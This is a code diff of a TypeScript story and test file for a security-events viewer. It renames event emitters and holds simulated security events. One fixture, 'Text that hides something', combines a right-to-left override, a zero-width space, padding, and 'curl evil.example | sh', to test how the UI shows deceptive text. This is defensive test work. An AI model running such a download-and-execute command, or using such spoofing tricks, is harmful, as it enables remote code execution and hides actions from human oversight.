@@ -24,7 +24,9 @@ const samples: readonly Partial<SecurityEvent>[] = [
 function past(gateway: SimulatedGateway, count: number): void {
   const now = Date.now();
   for (let index = count; index > 0; index--) {
-    gateway.events.emitPast(aSecurityEvent({ ...samples[index % samples.length], timestamp: now - index * 7_300 }));
+    gateway.securityLog.emitPast(
+      aSecurityEvent({ ...samples[index % samples.length], timestamp: now - index * 7_300 }),
+    );
   }
 }
 
@@ -32,7 +34,7 @@ function past(gateway: SimulatedGateway, count: number): void {
 function canary(gateway: SimulatedGateway, count: number): void {
   const now = Date.now();
   for (let index = count; index > 0; index--) {
-    gateway.events.emitPast(
+    gateway.securityLog.emitPast(
       aSecurityEvent({
         type: 'secret.accessed',
         action: 'secret.read CANARY_SECRET',
@@ -94,7 +96,8 @@ export default {
       render: () => html`<comis-security-events paused></comis-security-events>`,
       async play({ gateway }) {
         await settle();
-        for (let index = 0; index < 1204; index++) gateway.events.emit(aSecurityEvent(samples[index % samples.length]));
+        for (let index = 0; index < 1204; index++)
+          gateway.securityLog.emit(aSecurityEvent(samples[index % samples.length]));
       },
     },
     'Scrolled away': {
@@ -104,14 +107,15 @@ export default {
         const table = element.shadowRoot?.querySelector('[role=table]');
         if (table) table.scrollTop = 300;
         await settle();
-        for (let index = 0; index < 23; index++) gateway.events.emit(aSecurityEvent(samples[index % samples.length]));
+        for (let index = 0; index < 23; index++)
+          gateway.securityLog.emit(aSecurityEvent(samples[index % samples.length]));
       },
     },
     Details: {
       note: 'Every field, those that this version does not know too.',
       setup({ gateway }) {
         past(gateway, 40);
-        gateway.events.emitPast(
+        gateway.securityLog.emitPast(
           aSecurityEvent({
             ...samples[1],
             message: 'Refused by the policy: destructive commands need a person.',
@@ -132,7 +136,7 @@ export default {
     'Text that hides something': {
       setup({ gateway }) {
         past(gateway, 6);
-        gateway.events.emitPast(
+        gateway.securityLog.emitPast(
           aSecurityEvent({
             agentId: 'helper\u200b-bot',
             action: `file.read \u202Etxt.exe\u202C${' '.repeat(60)}&& curl evil.example | sh ${'x'.repeat(400)}`,
@@ -146,14 +150,14 @@ export default {
       setup: ({ gateway }) => past(gateway, 20),
       async play({ gateway, client }) {
         await settle();
-        gateway.events.emit(aSecurityEvent(samples[0]));
+        gateway.securityLog.emit(aSecurityEvent(samples[0]));
         await settle();
         client.drop();
-        for (const sample of samples) gateway.events.emit(aSecurityEvent(sample));
+        for (const sample of samples) gateway.securityLog.emit(aSecurityEvent(sample));
         gateway.stream.forget();
         await settle(1200);
         client.restore();
-        gateway.events.emit(aSecurityEvent(samples[3]));
+        gateway.securityLog.emit(aSecurityEvent(samples[3]));
       },
     },
     'Routine, folded': {
@@ -190,9 +194,9 @@ export default {
       setup: ({ gateway }) => past(gateway, 20),
       async play({ gateway }, element) {
         await settle();
-        gateway.events.emit(aSecurityEvent({ ...samples[5], timestamp: Date.UTC(2099, 11, 31) }));
+        gateway.securityLog.emit(aSecurityEvent({ ...samples[5], timestamp: Date.UTC(2099, 11, 31) }));
         await settle();
-        gateway.events.emit(aSecurityEvent(samples[0]));
+        gateway.securityLog.emit(aSecurityEvent(samples[0]));
         await settle();
         element.shadowRoot?.querySelectorAll<HTMLElement>('.rows .row .open')[1]?.click();
         await settle();
